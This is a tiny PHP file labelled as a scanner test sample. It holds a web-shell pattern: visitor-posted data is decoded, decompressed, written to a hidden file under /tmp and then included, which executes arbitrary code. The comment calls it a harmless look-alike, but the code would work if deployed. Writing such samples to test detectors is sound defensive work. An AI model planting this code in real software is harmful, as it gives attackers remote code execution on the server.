<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Code posted by the visitor, decoded, written to a fixed temporary path and included.
$d = gzuncompress(base64_decode($_POST['z']));
$f = fopen('/tmp/.sess_cache', 'w');
fwrite($f, $d);
fclose($f);
include '/tmp/.sess_cache';
